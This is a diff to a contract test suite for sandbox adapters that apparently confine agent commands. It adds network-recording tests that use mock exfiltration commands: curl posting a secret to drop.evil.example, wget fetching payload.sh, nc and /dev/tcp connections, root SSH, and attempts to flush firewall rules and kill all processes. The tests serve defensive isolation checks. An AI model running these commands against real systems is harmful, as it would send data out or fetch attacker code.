@@ -3,10 +3,19 @@ import { setTimeout as sleep } from 'node:timers/promises';
 import { describe, expect, it } from 'vitest';
 
 import { readAsData, toUntrusted } from '../base/untrusted-text.ts';
-import { DEFAULT_SANDBOX_LIMITS, type OpenSandboxOptions, type RunOptions, type Sandbox, SandboxError, type SandboxProvider, type ServiceCall } from './contract.ts';
+import {
+  DEFAULT_SANDBOX_LIMITS,
+  type OpenSandboxOptions,
+  type RunOptions,
+  type Sandbox,
+  SandboxError,
+  type SandboxProvider,
+  type ServiceCall,
+} from './contract.ts';
+import { networkEvidenceSchema, type NetworkAttempt } from './network-evidence.ts';
 
 /** Promises that an adapter may be unable to keep; each needs its reason. */
-export type SandboxGap = 'signals' | 'permissions' | 'background' | 'callers' | 'limits' | 'isolation';
+export type SandboxGap = 'signals' | 'permissions' | 'background' | 'callers' | 'limits' | 'isolation' | 'network';
 
 export interface SandboxSuiteOptions {
   readonly provider: SandboxProvider;
@@ -15,6 +24,96 @@ export interface SandboxSuiteOptions {
 
 const never = new AbortController().signal;
 const ordinary: RunOptions = { timeoutMs: 10_000, outputBytesMax: 10_000, signal: never };
+
+interface NetworkTrial {
+  readonly name: string;
+  readonly command: string;
+  readonly needs?: string;
+  readonly seen: readonly Partial<Record<keyof NetworkAttempt, unknown>>[];
+}
+
+const networkTrials: readonly NetworkTrial[] = [
+  {
+    name: 'curl with a body',
+    needs: 'curl',
+    command: 'curl -sS -m 5 -d secret=1 http://drop.evil.example/upload?a=b',
+    seen: [
+      { protocol: 'dns', address: '10.0.2.3', port: 53, name: 'drop.evil.example' },
+      {
+        protocol: 'http',
+        port: 80,
+        name: 'drop.evil.example',
+        request: 'POST /upload?a=b',
+        firstBytes: expect.stringMatching(/secret=1$/),
+      },
+    ],
+  },
+  {
+    name: 'curl on a port of its own, version 6',
+    needs: 'curl',
+    command: "curl -sS -m 5 -g 'http://[2001:db8::7]:8123/x'",
+    seen: [{ protocol: 'http', address: '2001:db8::7', port: 8123, request: 'GET /x' }],
+  },
+  {
+    name: 'curl with TLS',
+    needs: 'curl',
+    command: 'curl -sSk -m 5 https://api.evil.example/',
+    seen: [{ protocol: 'tls', port: 443, name: 'api.evil.example', request: null }],
+  },
+  {
+    name: 'bash /dev/tcp',
+    command: 'echo raw > /dev/tcp/203.0.113.7/443',
+    seen: [{ protocol: 'tcp', address: '203.0.113.7', port: 443, bytes: 4, firstBytes: 'raw\n' }],
+  },
+  {
+    name: 'a connection without a word',
+    command: ': > /dev/tcp/203.0.113.7/6667',
+    seen: [{ protocol: 'tcp', port: 6667, bytes: 0, firstBytes: '' }],
+  },
+  {
+    name: 'bash /dev/udp',
+    command: 'echo raw > /dev/udp/203.0.113.7/514',
+    seen: [{ protocol: 'udp', address: '203.0.113.7', port: 514, bytes: 4, firstBytes: 'raw\n' }],
+  },
+  {
+    name: 'getent',
+    needs: 'getent',
+    command: 'getent ahosts updates.evil.example',
+    seen: [{ protocol: 'dns', name: 'updates.evil.example' }],
+  },
+  {
+    name: 'wget',
+    needs: 'wget',
+    command: 'wget -q -T 5 -t 1 -O - http://198.51.100.9:8080/payload.sh',
+    seen: [
+      { protocol: 'http', address: '198.51.100.9', port: 8080, name: '198.51.100.9:8080', request: 'GET /payload.sh' },
+    ],
+  },
+  {
+    name: 'ssh',
+    needs: 'ssh',
+    command: 'timeout 3 ssh -o BatchMode=yes -o StrictHostKeyChecking=no root@203.0.113.7 true',
+    seen: [{ protocol: 'ssh', address: '203.0.113.7', port: 22, firstBytes: expect.stringMatching(/^SSH-2.0-/) }],
+  },
+  {
+    name: 'nc',
+    needs: 'nc',
+    command: 'echo over nc | timeout 3 nc -w 1 203.0.113.7 31337',
+    seen: [{ protocol: 'tcp', port: 31_337, firstBytes: 'over nc\n' }],
+  },
+  {
+    name: 'Python',
+    needs: 'python3',
+    command: `python3 -c 'import socket; s = socket.create_connection(("203.0.113.7", 5432)); s.sendall(b"\\x00\\xffpy"); s.close()'`,
+    seen: [{ protocol: 'tcp', address: '203.0.113.7', port: 5432, bytes: 4, firstBytes: '\\x00\\xffpy' }],
+  },
+  {
+    name: 'mail',
+    command:
+      'exec 3<> /dev/tcp/203.0.113.7/25; read -r greeting <&3; printf "EHLO box\\r\\nMAIL FROM:<a@b.example>\\r\\nQUIT\\r\\n" >&3; cat <&3',
+    seen: [{ protocol: 'smtp', port: 25, firstBytes: expect.stringMatching(/^EHLO box/) }],
+  },
+];
 
 /** Every adapter is held to the same sentences. */
 export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSuiteOptions): void {
@@ -28,7 +127,13 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
     it('runs a command in the home and tells its output streams and exit code apart', async () => {
       await using sandbox = await open();
       const result = await sandbox.run(toUntrusted('pwd; echo problem >&2; exit 3'), ordinary);
-      expect(result).toMatchObject({ stdout: `${sandbox.home}\n`, stderr: 'problem\n', exitCode: 3, timedOut: false, machineStopped: false });
+      expect(result).toMatchObject({
+        stdout: `${sandbox.home}\n`,
+        stderr: 'problem\n',
+        exitCode: 3,
+        timedOut: false,
+        machineStopped: false,
+      });
     });
 
     it('keeps files from one command to the next', async () => {
@@ -38,7 +143,9 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
     });
 
     it('puts the given files in place, with their folders and modes', async () => {
-      await using sandbox = await open({ files: [{ path: 'tools/hello.sh', content: '#!/bin/bash\necho hello\n', mode: 0o755 }] });
+      await using sandbox = await open({
+        files: [{ path: 'tools/hello.sh', content: '#!/bin/bash\necho hello\n', mode: 0o755 }],
+      });
       expect(await text(sandbox, './tools/hello.sh')).toBe('hello\n');
       expect((await sandbox.readTree()).entries[`${sandbox.home}/tools/hello.sh`]?.mode).toBe(0o755);
     });
@@ -52,7 +159,10 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
 
     it('cuts long output and says how long it was', async () => {
       await using sandbox = await open();
-      const result = await sandbox.run(toUntrusted('for i in {1..500}; do echo 0123456789; done'), { ...ordinary, outputBytesMax: 100 });
+      const result = await sandbox.run(toUntrusted('for i in {1..500}; do echo 0123456789; done'), {
+        ...ordinary,
+        outputBytesMax: 100,
+      });
       expect(result).toMatchObject({ truncated: true, stdoutBytes: 5500, exitCode: 0 });
       expect(readAsData(result.stdout)).toHaveLength(100);
     });
@@ -79,7 +189,10 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
         files: ['edited', 'chmodded', 'deleted', 'linked'].map((path) => ({ path, content: path, mode: 0o644 })),
       });
       const before = (await sandbox.readTree()).entries;
-      await sandbox.run(toUntrusted('echo x > edited; chmod 600 chmodded; rm deleted linked; ln -s /bin/true linked'), ordinary);
+      await sandbox.run(
+        toUntrusted('echo x > edited; chmod 600 chmodded; rm deleted linked; ln -s /bin/true linked'),
+        ordinary,
+      );
       const after = (await sandbox.readTree()).entries;
       const at = (path: string): string => `${sandbox.home}/${path}`;
       expect(after[at('edited')]?.sha256).not.toBe(before[at('edited')]?.sha256);
@@ -96,7 +209,10 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       expect(readAsData(result.stdout)).not.toContain('after');
       await sandbox.whenStopped;
       expect(sandbox.isAlive()).toBe(false);
-      expect(await sandbox.run(toUntrusted('echo again'), ordinary)).toMatchObject({ machineStopped: true, stdout: '' });
+      expect(await sandbox.run(toUntrusted('echo again'), ordinary)).toMatchObject({
+        machineStopped: true,
+        stdout: '',
+      });
     });
 
     it('keeps the tree readable when the machine has stopped', async () => {
@@ -109,7 +225,8 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
 
     it('runs a command of the harness while the agent waits for an answer', async () => {
       let sandbox: Sandbox | undefined;
-      const answer = async (): Promise<string> => readAsData((await sandbox?.runAsHarness('cat seen', ordinary))?.stdout ?? toUntrusted(''));
+      const answer = async (): Promise<string> =>
+        readAsData((await sandbox?.runAsHarness('cat seen', ordinary))?.stdout ?? toUntrusted(''));
       sandbox = await open({ services: [{ name: 'look', clientPath: 'look', answer }] });
       await using _ = sandbox;
       expect(await text(sandbox, 'echo from the agent > seen; ./look')).toContain('from the agent');
@@ -138,7 +255,9 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
     it('refuses with a SandboxError when it is closed', async () => {
       const sandbox = await open();
       await sandbox[Symbol.asyncDispose]();
-      await expect(Promise.resolve().then(() => sandbox.run(toUntrusted('true'), ordinary))).rejects.toThrow(SandboxError);
+      await expect(Promise.resolve().then(() => sandbox.run(toUntrusted('true'), ordinary))).rejects.toThrow(
+        SandboxError,
+      );
     });
 
     unless('limits')('stops a command that takes too long', async () => {
@@ -167,7 +286,8 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
 
     unless('signals')('survives every signal that the agent can send, but stops on TERM to PID 1', async () => {
       await using sandbox = await open();
-      for (const command of ['kill -9 -1', 'kill -9 1', 'kill -STOP 1', 'kill -9 0']) await sandbox.run(toUntrusted(command), ordinary);
+      for (const command of ['kill -9 -1', 'kill -9 1', 'kill -STOP 1', 'kill -9 0'])
+        await sandbox.run(toUntrusted(command), ordinary);
       expect(await text(sandbox, 'echo still here')).toBe('still here\n');
     });
 
@@ -175,7 +295,8 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
       await using sandbox = await open();
       await sandbox.run(toUntrusted('(while :; do echo x >> growing; done) & sleep 0.1'), ordinary);
       expect((await sandbox.freeze()).processes).toBeGreaterThan(1);
-      const size = async (): Promise<number | undefined> => (await sandbox.readTree()).entries[`${sandbox.home}/growing`]?.size;
+      const size = async (): Promise<number | undefined> =>
+        (await sandbox.readTree()).entries[`${sandbox.home}/growing`]?.size;
       const first = await size();
       await sleep(100);
       expect(await size()).toBe(first);
@@ -185,10 +306,15 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
     });
 
     unless('limits')('says ENOSPC when the disk is full, and EAGAIN when there are too many processes', async () => {
-      await using sandbox = await open({ limits: { ...DEFAULT_SANDBOX_LIMITS, diskBytesMax: 1024 * 1024, processesMax: 20 } });
+      await using sandbox = await open({
+        limits: { ...DEFAULT_SANDBOX_LIMITS, diskBytesMax: 1024 * 1024, processesMax: 20 },
+      });
       const disk = await sandbox.run(toUntrusted('head -c 5000000 /dev/zero > big'), ordinary);
       expect(readAsData(disk.stderr)).toContain('No space left on device');
-      const forks = await sandbox.run(toUntrusted('for i in {1..40}; do sleep 3 & done'), { ...ordinary, timeoutMs: 2000 });
+      const forks = await sandbox.run(toUntrusted('for i in {1..40}; do sleep 3 & done'), {
+        ...ordinary,
+        timeoutMs: 2000,
+      });
       expect(readAsData(forks.stderr)).toContain('Resource temporarily unavailable');
     });
 
@@ -200,20 +326,111 @@ export function describeSandboxContract({ provider, knownGaps = {} }: SandboxSui
     });
 
     unless('permissions')('enforces permission bits on the agent', async () => {
-      await using sandbox = await open({ files: [{ path: 'tool.sh', content: '#!/bin/bash\necho ran\n', mode: 0o755 }] });
+      await using sandbox = await open({
+        files: [{ path: 'tool.sh', content: '#!/bin/bash\necho ran\n', mode: 0o755 }],
+      });
       await sandbox.run(toUntrusted('chmod 644 tool.sh'), ordinary);
       expect((await sandbox.run(toUntrusted('./tool.sh'), ordinary)).exitCode).toBe(126);
     });
 
-    unless('isolation')('shows the agent no network, no host process, no other user and no writable system', async () => {
+    unless('isolation')(
+      'shows the agent no network, no host process, no other user and no writable system',
+      async () => {
+        await using sandbox = await open();
+        expect(
+          await text(sandbox, 'ls /sys/class/net 2>/dev/null; tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d " "'),
+        ).toBe('lo\n');
+        expect(await text(sandbox, 'ls -d /proc/[0-9]* | wc -l')).toMatch(/^[2-6]\n$/);
+        expect(
+          await text(
+            sandbox,
+            'id -u; grep -E "Cap(Inh|Prm|Eff)" /proc/self/status | cut -f2 | sort -u; grep NoNewPrivs /proc/self/status | cut -f2',
+          ),
+        ).toBe('1000\n0000000000000000\n1\n');
+        expect(
+          (await sandbox.run(toUntrusted('touch /usr/x || touch /etc/x || touch /x'), ordinary)).exitCode,
+        ).not.toBe(0);
+        expect(await text(sandbox, 'env | cut -d= -f1 | sort | tr "\\n" " "')).toBe(
+          'HOME LANG LOGNAME OLDPWD PATH PWD SHELL SHLVL USER _ ',
+        );
+      },
+    );
+
+    it('says that nobody looked at the network where nobody was asked to', async () => {
       await using sandbox = await open();
-      expect(await text(sandbox, 'ls /sys/class/net 2>/dev/null; tail -n +3 /proc/net/dev | cut -d: -f1 | tr -d " "')).toBe('lo\n');
-      expect(await text(sandbox, 'ls -d /proc/[0-9]* | wc -l')).toMatch(/^[2-6]\n$/);
-      expect(await text(sandbox, 'id -u; grep -E "Cap(Inh|Prm|Eff)" /proc/self/status | cut -f2 | sort -u; grep NoNewPrivs /proc/self/status | cut -f2')).toBe(
-        '1000\n0000000000000000\n1\n',
-      );
-      expect((await sandbox.run(toUntrusted('touch /usr/x || touch /etc/x || touch /x'), ordinary)).exitCode).not.toBe(0);
-      expect(await text(sandbox, 'env | cut -d= -f1 | sort | tr "\\n" " "')).toBe('HOME LANG LOGNAME OLDPWD PATH PWD SHELL SHLVL USER _ ');
+      expect(await sandbox.readNetwork()).toEqual({ recorded: false, attempts: [], truncated: false });
+    });
+
+    it.skipIf(provider.can.network)('refuses to record a network that it does not have', async () => {
+      await expect(open({ network: 'recorded' })).rejects.toMatchObject({ name: 'SandboxError', code: 'unavailable' });
+    });
+
+    unless('network').for(networkTrials)(
+      'records what $name tries, and lets nothing out',
+      async ({ command, seen, needs }, { skip }) => {
+        await using sandbox = await open({ network: 'recorded' });
+        if (needs !== undefined && (await text(sandbox, `command -v ${needs}`)) === '')
+          skip(`not run: ${needs} is not installed`);
+        await sandbox.run(toUntrusted(command), { ...ordinary, timeoutMs: 15_000 });
+        const { recorded, attempts, truncated } = networkEvidenceSchema.parse(await sandbox.readNetwork());
+        expect({ recorded, truncated }).toEqual({ recorded: true, truncated: false });
+        for (const one of seen) expect(attempts).toContainEqual(expect.objectContaining(one));
+      },
+    );
+
+    unless('network')('answers the names it makes up the same each time, and knows them again', async () => {
+      await using sandbox = await open({ network: 'recorded' });
+      await text(sandbox, 'for i in 1 2; do echo hello > /dev/tcp/drop.evil.example/4444; done');
+      const { attempts } = await sandbox.readNetwork();
+      const connections = attempts.filter(({ protocol }) => protocol === 'tcp');
+      expect(connections).toMatchObject([
+        { name: 'drop.evil.example', port: 4444, firstBytes: 'hello\n', bytes: 6 },
+        { name: 'drop.evil.example', address: connections[0]?.address },
+      ]);
+    });
+
+    unless('network')('keeps the first bytes and counts the rest', async () => {
+      await using sandbox = await open({ network: 'recorded' });
+      await text(sandbox, 'head -c 300000 /dev/zero | tr "\\0" a > /dev/tcp/203.0.113.7/9');
+      const [attempt] = (await sandbox.readNetwork()).attempts;
+      expect(attempt).toMatchObject({ address: '203.0.113.7', port: 9, bytes: 300_000, firstBytes: 'a'.repeat(4096) });
+    });
+
+    unless('network')('keeps a bounded number of attempts and says so', async () => {
+      await using sandbox = await open({ network: 'recorded' });
+      await text(sandbox, 'for i in {1..1100}; do : > /dev/tcp/203.0.113.7/$i; done');
+      const { attempts, truncated } = await sandbox.readNetwork();
+      expect({ count: attempts.length, truncated }).toEqual({ count: 1000, truncated: true });
+    });
+
+    unless('network')('cannot be switched off, seen or reached by the agent', async () => {
+      await using sandbox = await open({ network: 'recorded' });
+      await text(sandbox, 'ip link set lo down; ip route flush table local; nft flush ruleset; kill -9 -1');
+      expect(
+        await text(sandbox, 'ps -e 2>/dev/null | grep -c perl; ls /proc/[0-9]*/exe -l 2>/dev/null | grep -c perl'),
+      ).toMatch(/^0\n0\n$/);
+      await text(sandbox, 'echo still > /dev/tcp/203.0.113.7/443');
+      expect((await sandbox.readNetwork()).attempts).toMatchObject([
+        { address: '203.0.113.7', port: 443, firstBytes: 'still\n' },
+      ]);
+    });
+
+    unless('network')('leaves services of the agent on its own loopback alone', async () => {
+      await using sandbox = await open({ network: 'recorded' });
+      const serve =
+        'use IO::Socket::INET; my $l = IO::Socket::INET->new(Listen => 1, LocalAddr => "127.0.0.1:8000") or die; print {$l->accept} "mine\\n"';
+      expect(await text(sandbox, `perl -e '${serve}' & sleep 0.3; cat < /dev/tcp/127.0.0.1/8000`)).toBe('mine\n');
+      expect((await sandbox.readNetwork()).attempts).toEqual([]);
+    });
+
+    unless('network')('can still be read when the machine has stopped', async () => {
+      await using sandbox = await open({ network: 'recorded' });
+      await sandbox.run(toUntrusted('echo last > /dev/tcp/203.0.113.7/80; kill -s TERM 1; sleep 5'), ordinary);
+      await sandbox.whenStopped;
+      expect(await sandbox.kill()).toMatchObject({ survivors: 0 });
+      expect((await sandbox.readNetwork()).attempts).toMatchObject([
+        { address: '203.0.113.7', port: 80, firstBytes: 'last\n' },
+      ]);
     });
 
     unless('isolation')('stays the same under twenty sandboxes at once', async () => {
